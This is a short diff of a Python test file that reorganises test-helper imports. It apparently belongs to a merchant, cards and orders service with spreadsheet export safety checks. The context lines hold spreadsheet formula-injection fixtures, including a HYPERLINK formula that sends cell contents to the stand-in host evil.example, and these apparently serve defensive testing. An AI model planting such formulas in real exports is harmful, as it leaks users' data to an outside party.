@@ -26,11 +26,9 @@ from models.services.merchants import create_merchant
 from models.csv_chunks import csv_chunks
 from models.spreadsheet_safety import safe_cell, xlsx_bytes
 from models.users import Role, User
-from tests.helpers import admin_headers, auth, consumer_headers
-from tests.test_cards import buy_cards, pay_code, redeem
-from tests.test_catalog_import import HEADER
-from tests.test_orders import ADDRESS, order
-from tests.test_payments import pay
+from tests.support.cards import buy_cards, pay_code, redeem
+from tests.support.http import HEADER, admin_headers, auth, consumer_headers
+from tests.support.orders import ADDRESS, order, pay
 
 SUPPLIER = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
 CATEGORY = "@SUM(1+1)"
